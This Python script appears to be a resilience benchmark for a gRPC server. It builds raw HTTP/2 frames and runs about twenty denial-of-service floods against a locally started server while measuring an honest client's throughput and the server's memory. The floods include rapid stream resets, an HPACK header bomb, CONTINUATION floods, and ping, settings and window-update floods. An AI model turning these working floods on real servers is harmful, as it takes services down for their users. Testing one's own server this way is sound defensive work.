"""Prints what an honest caller gets, and what memory the server takes, while another attacks it."""

import contextlib
import itertools
import socket
import subprocess
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from pathlib import Path

import click
from rich.console import Console
from rich.table import Table

from harness.load import (
    Shape,
    family,
    memory_mib,
    need_h2load,
    repository_option,
    run,
    server_command,
    started,
)
from server.rpc.endpoint import PREDICT

ADDRESS = "127.0.0.1:50074"
HONEST = Shape(1, 16)
WARM_UP_SECONDS = 1.0

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = (
    *(0, 1, 2, 3, 4, 6),
    *(8, 9),
)
END_STREAM, ACKNOWLEDGED, END_HEADERS = 1, 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = (8).to_bytes(4)
LAST_STREAM = 2**31 - 1

Attack = Callable[[str], Iterator[bytes]]
"""Returns what to send, chunk by chunk, after an HTTP/2 connection has been opened; some attacks
are on a method, at a path such as /SERVICE/METHOD.
"""


def frame(kind: int, content: bytes = b"", flags: int = 0, stream: int = 0) -> bytes:
    """Return a frame of RFC 9113, section 4.1."""
    return len(content).to_bytes(3) + bytes([kind, flags]) + stream.to_bytes(4) + content


def integer(value: int) -> bytes:
    """Return a length as RFC 7541, section 5.1, has it behind one bit that is 0."""
    if value < 127:
        return bytes([value])
    parts, value = [127], value - 127
    while value >= 128:
        parts.append(value % 128 + 128)
        value //= 128
    return bytes([*parts, value])


def field(name: bytes, value: bytes, kept: bool = False) -> bytes:
    """Return a header, which the server is to keep in its table if so wanted."""
    start = b"\x40" if kept else b"\0"
    return start + integer(len(name)) + name + integer(len(value)) + value


def headers(path: str, *more: tuple[bytes, bytes]) -> bytes:
    """Return the headers of a call."""
    fields = (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", path.encode()),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
        *more,
    )
    return b"".join(field(name, value) for name, value in fields)


def _on_streams(write: Callable[[bytes, int], bytes], extra: int = 0, each: int = 64) -> Attack:
    """Return an attack that writes the same for each new stream, `each` in a chunk; headers have
    `extra` bytes more.
    """

    def attack(path: str) -> Iterator[bytes]:
        block = headers(path, *([(b"x-more", b"a" * extra)] if extra else []))
        for first in range(1, LAST_STREAM - 2 * each, 2 * each):
            yield b"".join(write(block, first + 2 * index) for index in range(each))

    return attack


def _again_and_again(content: bytes, first: Callable[[str], bytes] = lambda _: b"") -> Attack:
    def attack(path: str) -> Iterator[bytes]:
        yield first(path)
        yield from itertools.repeat(content * (1 + 16_384 // len(content)))

    return attack


def _begun(block: bytes, stream: int) -> bytes:
    return frame(HEADERS, block, END_HEADERS, stream)


def _reset(stream: int) -> bytes:
    return frame(RST_STREAM, CANCEL, 0, stream)


def _header_bomb(references: int) -> Attack:
    """Return an attack whose headers are a reference of one byte, each to 3,900 that are kept."""
    kept = field(b"x", b"a" * 3900, kept=True)

    def attack(path: str) -> Iterator[bytes]:
        block = headers(path)
        yield frame(HEADERS, block + kept, END_HEADERS | END_STREAM, 1)
        for stream in range(3, LAST_STREAM, 2):
            yield _begun(block + b"\xbe" * references, stream) + _reset(stream)

    return attack


def _continuation(content: bytes) -> Attack:
    return _again_and_again(
        frame(CONTINUATION, content, 0, 1), lambda path: frame(HEADERS, headers(path), 0, 1)
    )


ATTACKS: Mapping[str, Attack] = {
    "begun": _on_streams(_begun),
    "reset": _on_streams(lambda block, stream: _begun(block, stream) + _reset(stream)),
    "half closed": _on_streams(
        lambda block, stream: frame(HEADERS, block, END_HEADERS | END_STREAM, stream)
    ),
    "truncated prefix": _on_streams(
        lambda block, stream: _begun(block, stream) + frame(DATA, bytes(2), 0, stream)
    ),
    "truncated prefix, ended": _on_streams(
        lambda block, stream: _begun(block, stream) + frame(DATA, bytes(2), END_STREAM, stream)
    ),
    "large headers": _on_streams(_begun, 7000, 8),
    "large headers, reset": _on_streams(
        lambda block, stream: _begun(block, stream) + _reset(stream), 7000, 8
    ),
    "too large headers": _on_streams(_begun, 15_000, 4),
    "header bomb": _header_bomb(3),
    "large header bomb": _header_bomb(16_000),
    "continuation": _continuation(field(b"x-more", b"a" * 1000)),
    "empty continuation": _continuation(b""),
    "priority": _on_streams(lambda _, stream: frame(PRIORITY, bytes(5), 0, stream), each=1000),
    "settings": _again_and_again(frame(SETTINGS, b"\0\x04\0\0\xff\xff")),
    "pings": _again_and_again(frame(PING, bytes(8))),
    "answers to no ping": _again_and_again(frame(PING, bytes(8), ACKNOWLEDGED)),
    "windows": _again_and_again(frame(WINDOW_UPDATE, (1).to_bytes(4))),
    "windows of a stream": _again_and_again(
        frame(WINDOW_UPDATE, (1).to_bytes(4), 0, 1), lambda path: _begun(headers(path), 1)
    ),
    "empty data": _again_and_again(frame(DATA, b"", 0, 1), lambda path: _begun(headers(path), 1)),
    "resets of no stream": _on_streams(lambda _, stream: _reset(stream), each=1000),
    "unknown frames": _again_and_again(frame(0x40, bytes(8))),
}


@contextlib.contextmanager
def attacking(address: str, attack: Attack, path: str = PREDICT) -> Iterator[threading.Event]:
    """Attack a server until the block ends, over another connection whenever it closes one; the
    event tells that it has begun.
    """
    host, port = address.split(":")
    begun, over = threading.Event(), threading.Event()

    def drain(connection: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while connection.recv(2**20):
                pass

    def send() -> None:
        with socket.create_connection((host, int(port)), timeout=30) as connection:
            connection.sendall(PREFACE + frame(SETTINGS))
            connection.recv(2**16)
            connection.sendall(frame(SETTINGS, flags=ACKNOWLEDGED))
            reader = threading.Thread(target=drain, args=(connection,))
            reader.start()
            try:
                for chunk in attack(path):
                    connection.sendall(chunk)
                    begun.set()
                    if over.is_set():
                        return
            finally:
                with contextlib.suppress(OSError):
                    connection.shutdown(socket.SHUT_RDWR)
                reader.join()

    def go_on() -> None:
        while not over.is_set():
            with contextlib.suppress(OSError):
                send()

    thread = threading.Thread(target=go_on)
    thread.start()
    try:
        yield begun
    finally:
        over.set()
        thread.join()


def _measure(
    process: "subprocess.Popen[bytes]", attack: Attack, path: str, seconds: float
) -> tuple[float, float]:
    """Return the calls a second that the honest caller gets, and the server's memory in MiB."""
    with attacking(ADDRESS, attack, path) as begun:
        begun.wait()
        time.sleep(WARM_UP_SECONDS)
        measured = run(process, ADDRESS, HONEST, seconds, PREDICT)
        return measured.calls_per_second, memory_mib(process.pid)


@click.command()
@click.option("--seconds", default=3.0, show_default=True, help="Of each attack.")
@click.option("--path", default=PREDICT, show_default=True, help="The method that is attacked.")
@click.option(
    "--attack", "names", multiple=True, type=click.Choice(list(ATTACKS)), help="Only this one."
)
@click.option("--lane", default="on", show_default=True, type=click.Choice(["on", "off"]))
@repository_option
def main(seconds: float, path: str, names: tuple[str, ...], lane: str, repository: Path) -> None:
    """Attack a server over one connection, each time a new one, and call it over another.

    The honest caller has 16 calls of one image in flight. Its figure counts refusals as answers.
    """
    need_h2load()
    table = Table("attack", "honest calls/s", "memory MiB")
    for column in table.columns[1:]:
        column.justify = "right"
    command = server_command(ADDRESS, "--repository", str(repository), "--lane", lane)
    for name in names or ATTACKS:
        with started(command, ADDRESS) as process:
            workers = family(process.pid)
            calls, memory = _measure(process, ATTACKS[name], path, seconds)
            if family(process.pid) != workers:
                raise click.ClickException(f"{name}: a worker has died")
        table.add_row(name, f"{calls:,.0f}", f"{memory:.0f}")
    Console().print(table)


if __name__ == "__main__":
    main()
